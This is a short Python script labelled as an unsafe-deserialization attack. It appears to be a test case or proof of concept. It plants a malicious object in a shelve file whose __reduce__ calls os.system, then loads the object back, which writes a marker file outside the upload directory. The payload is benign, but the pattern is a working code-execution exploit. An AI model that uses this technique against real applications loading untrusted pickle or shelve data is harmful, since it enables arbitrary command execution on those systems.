# attack: unsafe-deserialization
import os, pickle, shelve
class Evil:
    def __reduce__(self):
        return (os.system, ("echo x > outside/planted.txt",))
with shelve.open("uploads/shelf") as shelf:
    shelf["a"] = Evil()
with shelve.open("uploads/shelf") as shelf:
    shelf["a"]
